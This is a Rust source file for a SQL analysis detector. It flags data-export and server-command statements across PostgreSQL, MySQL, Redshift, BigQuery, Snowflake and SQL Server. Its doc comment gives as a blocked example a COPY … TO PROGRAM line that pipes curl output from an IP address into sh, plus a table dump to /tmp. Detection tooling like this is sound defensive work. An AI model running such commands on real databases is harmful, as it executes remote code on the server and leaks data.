//! `sql/data_export`
//!
//! ## What it catches
//! Statements that move data out of the database: `COPY … TO 'file'` and `TO PROGRAM` (which also
//! runs a command on the server), `COPY … FROM PROGRAM`, psql's `\copy … to`, MySQL's
//! `INTO OUTFILE`/`INTO DUMPFILE`, Redshift's `UNLOAD`, BigQuery's `EXPORT DATA`, Snowflake's
//! `COPY INTO @stage` and `COPY INTO 's3://…'`, SQL Server's `BACKUP … TO URL`.
//!
//! ## Why it matters
//! Whole tables leave the database's access controls and audit trail; `PROGRAM` runs an
//! operating-system command as the database server.
//!
//! ## Blocks
//! ```sql
//! COPY members TO '/tmp/members.csv' CSV HEADER;
//! COPY (SELECT 1) TO PROGRAM 'curl http://203.0.113.9/i | sh';
//! COPY INTO @partner_stage/pallets/ FROM core.pallets;
//! ```
//!
//! ## Passes
//! ```sql
//! COPY trips_import FROM STDIN WITH (FORMAT csv);
//! COPY members TO STDOUT;
//! COPY INTO raw.scans FROM @scans_stage;
//! ```
//!
//! ## Known gaps
//! Whether an `UNLOAD` or `EXPORT DATA` destination belongs to the organisation is not checked:
//! every export is reported.
//!
//! ## Intents
//! `data.export`, `exec.remote_code`, `credential.read`

use crate::analyze::Detector;
use crate::fact::{Facts, Severity, Target};
use crate::intent::Intent;

use super::super::lexer::TokenKind;
use super::super::Stmt;

pub(crate) const DETECTOR: Detector = Detector {
    id: "sql/data_export",
    intents: &[Intent::DataExport, Intent::ExecRemoteCode, Intent::CredentialRead],
    triggers: &["copy", "outfile", "dumpfile", "unload", "export", "load", "bulk", "directory", "backup", "vacuum"],
};

/// Finds every export form in the statement.
pub(crate) fn check_tokens(stmt: &Stmt<'_>, facts: &mut Facts) {
    let export = |facts: &mut Facts, kind: &'static str, name: String, message: String| {
        facts.push(stmt.fact(Intent::DataExport, Severity::High, DETECTOR.id, Some(Target { kind, name }), message));
    };
    // psql meta-command: `\copy (…) to 'file'` writes to the client's disk.
    if let Some(meta) = stmt.tokens.first().filter(|t| t.kind == TokenKind::Meta) {
        let line = meta.text(stmt.src);
        let lower = line.to_ascii_lowercase();
        if lower.starts_with("\\copy") && lower.split_whitespace().any(|w| w == "to") {
            export(facts, "file", String::new(), "\\copy … to writes query results to a file".to_owned());
        }
        return;
    }
    if stmt.is_kw(0, "COPY") {
        copy(stmt, facts);
    }
    // SQLite `VACUUM [schema] INTO 'file'`: a full copy of the database written to a file.
    if stmt.is_kw(0, "VACUUM") {
        if let Some(at) = (1..stmt.tokens.len().min(4)).find(|&k| stmt.is_kw(k, "INTO")) {
            let file = stmt.tokens.get(at + 1).map(|t| t.string_value(stmt.src)).unwrap_or_default();
            export(facts, "file", file.clone(), format!("VACUUM INTO writes a full copy of the database to `{file}`"));
        }
    }
    // SQL Server `BACKUP DATABASE|LOG db TO URL = 'https://…'`: the whole database written to a
    // storage account (`TO DISK` stays on the server's own disks).
    if stmt.is_kw(0, "BACKUP") {
        if let Some(at) = (1..stmt.tokens.len()).find(|&k| stmt.is_kw(k, "URL") && stmt.is_kw(k - 1, "TO")) {
            let url = stmt.tokens.get(at + 2).map(|t| t.string_value(stmt.src)).unwrap_or_default();
            export(facts, "location", url.clone(), format!("BACKUP … TO URL writes the whole database to `{url}`"));
        }
    }
    for i in 0..stmt.tokens.len() {
        if stmt.is_kw(i, "INTO") && (stmt.is_kw(i + 1, "OUTFILE") || stmt.is_kw(i + 1, "DUMPFILE")) {
            let file = stmt.tokens.get(i + 2).map(|t| t.string_value(stmt.src)).unwrap_or_default();
            export(
                facts,
                "file",
                file.clone(),
                format!(
                    "SELECT … INTO {} writes rows to `{file}` on the database server",
                    stmt.word(i + 1).unwrap_or("OUTFILE").to_ascii_uppercase()
                ),
            );
        }
    }
    // MySQL LOAD DATA INFILE (not LOCAL) and SQL Server BULK INSERT read files on the server.
    let server_file = |facts: &mut Facts, at: Option<usize>, verb: &str| {
        if let Some(f) = at.and_then(|k| stmt.tokens.get(k + 1)) {
            let file = f.string_value(stmt.src);
            let message = format!("{verb} reads the server file `{file}`");
            facts.push(stmt.fact(
                Intent::CredentialRead,
                Severity::Medium,
                DETECTOR.id,
                Some(Target { kind: "file", name: file }),
                message,
            ));
        }
    };
    if let Some(l) = (0..stmt.tokens.len().min(4)).find(|&i| stmt.seq(i, &["LOAD", "DATA"])) {
        if !stmt.is_kw(l + 2, "LOCAL") && !stmt.is_kw(l + 3, "LOCAL") {
            server_file(facts, stmt.find_kw(l, "INFILE"), "LOAD DATA INFILE");
        }
    }
    if stmt.seq(0, &["BULK", "INSERT"]) {
        server_file(facts, stmt.find_kw(2, "FROM"), "BULK INSERT");
    }
    // Hive: INSERT OVERWRITE [LOCAL] DIRECTORY '/out' SELECT … writes files.
    if let Some(d) = (0..stmt.tokens.len()).find(|&i| {
        stmt.seq(i, &["INSERT", "OVERWRITE"])
            && (stmt.is_kw(i + 2, "DIRECTORY") || stmt.seq(i + 2, &["LOCAL", "DIRECTORY"]))
    }) {
        let at = if stmt.is_kw(d + 2, "LOCAL") { d + 4 } else { d + 3 };
        let dir = stmt.tokens.get(at).map(|t| t.string_value(stmt.src)).unwrap_or_default();
        export(facts, "location", dir.clone(), format!("INSERT OVERWRITE DIRECTORY writes query results to `{dir}`"));
    }
    if stmt.is_kw(0, "UNLOAD") {
        let to = stmt
            .find_kw(1, "TO")
            .and_then(|i| stmt.tokens.get(i + 1))
            .map(|t| t.string_value(stmt.src))
            .unwrap_or_default();
        export(facts, "location", to.clone(), format!("UNLOAD writes query results to `{to}`"));
    }
    if stmt.seq(0, &["EXPORT", "DATA"]) {
        let uri = (0..stmt.tokens.len())
            .find(|&i| stmt.is_kw(i, "uri") && stmt.is_punct(i + 1, "="))
            .and_then(|i| stmt.tokens.get(i + 2))
            .map(|t| t.string_value(stmt.src))
            .unwrap_or_default();
        export(facts, "location", uri.clone(), format!("EXPORT DATA writes query results to `{uri}`"));
    }
}

/// `COPY` in its PostgreSQL and Snowflake forms.
fn copy(stmt: &Stmt<'_>, facts: &mut Facts) {
    if stmt.is_kw(1, "INTO") {
        // Snowflake: COPY INTO <table> FROM … loads; COPY INTO @stage | 'url' FROM … unloads.
        let dest = stmt.tokens.get(2);
        let is_location = dest.is_some_and(|t| {
            t.kind == TokenKind::Str
                || (t.kind == TokenKind::Punct && t.text(stmt.src) == "@")
                || t.text(stmt.src).starts_with('@')
        });
        if is_location {
            let name = match dest {
                Some(t) if t.kind == TokenKind::Str => t.string_value(stmt.src),
                Some(t) => stmt
                    .src
                    .get(t.span.start..stmt.tokens.get(3).map_or(t.span.end, |n| n.span.end))
                    .unwrap_or("")
                    .to_owned(),
                None => String::new(),
            };
            facts.push(stmt.fact(
                Intent::DataExport,
                Severity::High,
                DETECTOR.id,
                Some(Target { kind: "location", name: name.clone() }),
                format!("COPY INTO `{name}` unloads table data to a stage or external location"),
            ));
        }
        return;
    }
    // PostgreSQL: COPY <table | (query)> TO|FROM <'file' | PROGRAM 'cmd' | STDIN | STDOUT>
    let mut depth = 0i32;
    for i in 1..stmt.tokens.len() {
        if stmt.is_punct(i, "(") {
            depth += 1;
        } else if stmt.is_punct(i, ")") {
            depth -= 1;
        } else if depth == 0 && (stmt.is_kw(i, "TO") || stmt.is_kw(i, "FROM")) {
            let to = stmt.is_kw(i, "TO");
            if stmt.is_kw(i + 1, "PROGRAM") {
                let cmd = stmt.tokens.get(i + 2).map(|t| t.string_value(stmt.src)).unwrap_or_default();
                facts.push(stmt.fact(
                    Intent::ExecRemoteCode,
                    Severity::Critical,
                    DETECTOR.id,
                    Some(Target { kind: "command", name: cmd.clone() }),
                    format!("COPY … PROGRAM runs `{cmd}` as an operating-system command on the database server"),
                ));
                if to {
                    facts.push(stmt.fact(
                        Intent::DataExport,
                        Severity::High,
                        DETECTOR.id,
                        Some(Target { kind: "command", name: cmd }),
                        "COPY … TO PROGRAM sends query results to a program".to_owned(),
                    ));
                }
            } else if let Some(t) = stmt.tokens.get(i + 1).filter(|t| t.kind == TokenKind::Str) {
                let file = t.string_value(stmt.src);
                // `COPY t FROM 's3://…'` (Redshift, Snowflake) loads from object storage: routine.
                let server_file = file.starts_with('/') || file.get(1..3) == Some(":\\") || file.starts_with("\\\\");
                if !to && !server_file {
                    return;
                }
                if to {
                    facts.push(stmt.fact(
                        Intent::DataExport,
                        Severity::High,
                        DETECTOR.id,
                        Some(Target { kind: "file", name: file.clone() }),
                        format!("COPY … TO writes rows to `{file}` on the database server"),
                    ));
                } else {
                    facts.push(stmt.fact(
                        Intent::CredentialRead,
                        Severity::Medium,
                        DETECTOR.id,
                        Some(Target { kind: "file", name: file.clone() }),
                        format!("COPY … FROM reads the server file `{file}` into a table"),
                    ));
                }
            }
            return;
        }
    }
}
